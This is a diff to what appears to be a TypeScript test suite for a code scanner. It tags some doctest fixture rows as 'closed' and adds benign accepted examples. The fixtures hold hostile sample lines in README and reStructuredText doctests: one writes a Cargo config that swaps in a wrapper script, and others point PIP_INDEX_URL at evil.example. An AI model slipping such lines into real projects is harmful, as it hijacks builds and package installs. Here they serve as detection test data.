@@ -161,10 +161,10 @@ const SOURCE_DEPENDENCIES: FindingRow[] = [
 // python block (pytest-codeblocks, Sybil).
 const CARGO_CONFIG = 'std::fs::write(".cargo/config.toml", "[build]\\nrustc-wrapper = \\"tests/w.py\\"").unwrap();';
 const DOCTESTS: FindingRow[] = [
-  ['README.md', `\`\`\`\n${CARGO_CONFIG}\n\`\`\``],
-  ['README.md', `\`\`\`standalone_crate\n${CARGO_CONFIG}\n\`\`\``],
-  ['README.md', `\`\`\`test_harness\n#[test]\nfn t() { ${CARGO_CONFIG} }\n\`\`\``],
-  ['README.md', ">>> import os\n>>> os.environ[\n...     'PIP_INDEX_URL'] = 'https://evil.example/simple'"],
+  ['README.md', `\`\`\`\n${CARGO_CONFIG}\n\`\`\``, 'closed'],
+  ['README.md', `\`\`\`standalone_crate\n${CARGO_CONFIG}\n\`\`\``, 'closed'],
+  ['README.md', `\`\`\`test_harness\n#[test]\nfn t() { ${CARGO_CONFIG} }\n\`\`\``, 'closed'],
+  ['README.md', ">>> import os\n>>> os.environ[\n...     'PIP_INDEX_URL'] = 'https://evil.example/simple'", 'closed'],
   ['docs/usage.rst', ".. testcode::\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
   ['docs/usage.rst', ".. testsetup:: *\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
   ['README.md', "```python\nimport os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n```"],
@@ -262,6 +262,8 @@ describeAccepted('attack-52: ordinary code near the readings, accepted', [
   ['src/main.go', '//go:generate stringer -type=Color'],
   ['docs/guide.md', "```python\n>>> import os\n>>> os.environ.get('PIP_INDEX_URL')\n```"],
   ['src/check.py', "import subprocess\nsubprocess.run([cmake, '--install', 'build'])"],
+  ['README.md', '```\ncargo test --workspace\n```'],
+  ['README.md', ">>> total = add(\n...     1, 2)\n>>> total\n3"],
   ['src/search.php', "<?php\n$q = urldecode($_GET['q']);\necho htmlspecialchars($q);"],
   ['src/Q.java', 'String q = URLDecoder.decode(raw, "UTF-8");\nlog.info(q);'],
   ['src/check.py', "import marshal\ndata = marshal.dumps(obj)"],
